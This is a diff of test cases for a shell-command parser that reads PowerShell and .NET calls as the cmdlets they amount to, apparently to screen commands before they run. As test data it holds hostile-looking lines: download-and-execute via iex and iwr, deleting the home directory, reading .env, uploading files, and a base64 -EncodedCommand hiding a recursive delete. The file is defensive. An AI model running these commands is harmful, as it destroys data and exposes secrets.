@@ -1458,7 +1458,164 @@ describe('other shells written directly (options.shell)', () => {
     {
       line: 'iex (iwr https://example.com/x.ps1)',
       options: { shell: 'powershell' },
-      expect: [{ program: 'iex' }, { program: 'iwr', via: '(' }],
+      // the group is iex's argument: iwr runs in it, and iex runs what it prints (unread)
+      expect: [{ program: 'iwr', via: '(' }, { program: 'iex' }, { program: 'iwr', via: 'iex -c > (' }],
+      opaque: ['dynamic-program'],
+    },
+    // .NET members: the ones that only compute go ahead, the ones that touch files, sites or
+    // programs are read as the cmdlet that does the same, the others stay unread
+    {
+      options: { shell: 'powershell' },
+      line: '[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("x"))',
+      expect: [],
+    },
+    {
+      options: { shell: 'powershell' },
+      line: '[IO.File]::Delete("a.txt")',
+      expect: [{ program: 'Remove-Item', args: ['-LiteralPath', 'a.txt'], src: '[IO.File]::Delete("a.txt"' }],
+    },
+    {
+      options: { shell: 'powershell' },
+      line: '$x = [IO.File]::ReadAllText(".env"); $x',
+      expect: [{ program: 'Get-Content', args: ['-LiteralPath', '.env'], src: '[IO.File]::ReadAllText(".env"' }],
+    },
+    {
+      options: { shell: 'powershell' },
+      line: '[System.IO.Directory]::Delete($HOME, $true)',
+      expect: [
+        {
+          program: 'Remove-Item',
+          args: ['-LiteralPath', '/home/dev', '-Recurse'],
+          src: '[System.IO.Directory]::Delete($HOME, $true)',
+        },
+      ],
+    },
+    {
+      options: { shell: 'powershell' },
+      line: "[IO.Directory]::Delete('build', $false)",
+      expect: [{ program: 'Remove-Item', args: ['-LiteralPath', 'build'], src: "[IO.Directory]::Delete('build'" }],
+    },
+    {
+      options: { shell: 'powershell' },
+      line: "[IO.File]::Copy('a.txt', (Join-Path $HOME 'b.txt'))",
+      expect: [
+        { program: 'Join-Path', via: '( > (' },
+        {
+          program: 'Copy-Item',
+          args: ['-LiteralPath', 'a.txt', '-Destination', "(Join-Path $HOME 'b.txt')"],
+          src: "[IO.File]::Copy('a.txt', (Join-Path $HOME 'b.txt')",
+        },
+      ],
+    },
+    {
+      options: { shell: 'powershell' },
+      line: '[IO.File]::WriteAllText("$HOME\\.bashrc", "x")',
+      expect: [
+        {
+          program: 'Set-Content',
+          args: ['-LiteralPath', '/home/dev\\.bashrc'],
+          src: '[IO.File]::WriteAllText("$HOME\\.bashrc"',
+        },
+      ],
+    },
+    {
+      options: { shell: 'powershell' },
+      line: "(New-Object Net.WebClient).DownloadFile('https://example.com/a.exe', 'a.exe')",
+      expect: [
+        { program: 'New-Object', via: '(' },
+        {
+          program: 'Invoke-WebRequest',
+          args: ['-Uri', 'https://example.com/a.exe', '-OutFile', 'a.exe'],
+          src: ".DownloadFile('https://example.com/a.exe', 'a.exe'",
+        },
+        { program: '.DownloadFile' },
+      ],
+    },
+    {
+      options: { shell: 'powershell' },
+      line: '$wc = New-Object System.Net.WebClient; $wc.UploadFile("https://example.com/u", "POST", "a.txt")',
+      expect: [
+        { program: 'New-Object' },
+        {
+          program: 'Invoke-WebRequest',
+          args: ['-Uri', 'https://example.com/u', '-Method', 'Post', '-InFile', 'a.txt'],
+          src: '$wc.UploadFile("https://example.com/u", "POST", "a.txt"',
+        },
+      ],
+    },
+    // a call whose arguments are missing, or a member nobody listed, stays unread
+    { options: { shell: 'powershell' }, line: '[IO.File]::Delete()', expect: [], opaque: ['dotnet-call'] },
+    {
+      options: { shell: 'powershell' },
+      line: '[Reflection.Assembly]::Load($bytes)',
+      expect: [],
+      opaque: ['dotnet-call'],
+    },
+    { options: { shell: 'powershell' }, line: '[IO.File]::Encrypt("a.txt")', expect: [], opaque: ['dotnet-call'] },
+    // a group among a command's words is one of its arguments, not a new command
+    {
+      options: { shell: 'powershell' },
+      line: "Remove-Item -Path (Join-Path $HOME '*') -Recurse -Force",
+      expect: [
+        { program: 'Join-Path', args: ['/home/dev', '*'], via: '(' },
+        { program: 'Remove-Item', args: ['-Path', "(Join-Path $HOME '*')", '-Recurse', '-Force'] },
+      ],
+    },
+    {
+      options: { shell: 'powershell' },
+      line: 'Copy-Item (Get-ChildItem *.log).FullName logs',
+      expect: [
+        { program: 'Get-ChildItem', via: '(' },
+        { program: 'Copy-Item', args: ['(Get-ChildItem *.log).FullName', 'logs'] },
+      ],
+    },
+    // …but after a keyword or at a statement's start it opens a condition or a group; an operator
+    // that opens a statement makes it an expression
+    {
+      options: { shell: 'powershell' },
+      line: 'if (-not (Test-Path node_modules)) { npm ci }',
+      expect: [
+        { program: 'Test-Path', via: '( > (' },
+        { program: 'npm', args: ['ci'], via: '{' },
+      ],
+    },
+    {
+      options: { shell: 'powershell' },
+      line: 'if (Test-Path dist) { Remove-Item dist -Recurse }',
+      expect: [
+        { program: 'Test-Path', via: '(' },
+        { program: 'Remove-Item', args: ['dist', '-Recurse'], via: '{' },
+      ],
+    },
+    {
+      options: { shell: 'powershell' },
+      line: 'foreach ($f in $files) { Write-Host $f }',
+      expect: [{ program: 'foreach' }, { program: 'Write-Host', via: '{' }],
+    },
+    {
+      options: { shell: 'powershell' },
+      line: '(Get-Content a.txt) -replace "x", "y"',
+      expect: [{ program: 'Get-Content', via: '(' }],
+    },
+    // -EncodedCommand: the text decoded (UTF-16LE) and read as PowerShell
+    {
+      options: { shell: 'powershell' },
+      line: 'pwsh -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAAfgA=',
+      expect: [
+        { program: 'pwsh' },
+        { program: 'Remove-Item', args: ['-Recurse', '/home/dev'], via: 'pwsh -c', src: 'UgBlAG0AbwB2AGUALQBJAH' },
+      ],
+    },
+    // not UTF-16LE base64 (an odd number of bytes, not base64 at all): nothing read from it
+    {
+      options: { shell: 'powershell' },
+      line: 'powershell -EncodedCommand UgBlAG0',
+      expect: [{ program: 'powershell' }],
+    },
+    {
+      options: { shell: 'powershell' },
+      line: 'powershell -EncodedCommand not*base64',
+      expect: [{ program: 'powershell' }],
     },
     {
       line: '$target = "C:\\build"; Remove-Item $target -Recurse',
@@ -1605,10 +1762,10 @@ describe('a PowerShell or cmd.exe line handed over as is (no options.shell)', ()
         { program: 'Write-Host', args: ['$c'] },
       ],
     },
-    // .NET members: the ones that only compute go ahead, the others stay unread
+    // .NET members: the ones that only compute go ahead, the ones that touch files, sites or
+    // programs are read as the cmdlet that does the same (options.shell above), the others stay unread
     { line: '[System.IO.Path]::GetFullPath(".")', expect: [] },
-    { line: '[IO.File]::Delete("a.txt")', expect: [], opaque: ['dotnet-call'] },
-    { line: '$x = [IO.File]::ReadAllText(".env"); $x', expect: [], opaque: ['dotnet-call'] },
+    { line: '[IO.File]::Encrypt("a.txt")', expect: [], opaque: ['dotnet-call'] },
     // a backtick escape or a here-string: sh stops at the quote it never sees closed, PowerShell reads on
     { line: 'Write-Host "line1`nline2"', expect: [{ program: 'Write-Host', args: ['line1\nline2'] }] },
     {
@@ -1648,7 +1805,14 @@ describe('a PowerShell or cmd.exe line handed over as is (no options.shell)', ()
     // a word before `(` where zsh or bash does run the group
     {
       line: 'Get-Date; repeat 2 (rm -rf x)',
-      expect: [{ program: 'Get-Date' }, { program: 'repeat' }, { program: 'rm', via: '(' }],
+      // PowerShell takes the group as repeat's argument: both readings of repeat are kept
+      expect: [
+        { program: 'Get-Date' },
+        { program: 'repeat' },
+        { program: 'repeat' },
+        { program: 'rm', via: '(' },
+        { program: 'rm', via: '(' },
+      ],
     },
     // a POSIX line keeps its escapes
     { line: 'rm -rf .\\./x', expect: [{ program: 'rm', args: ['-rf', '../x'] }] },
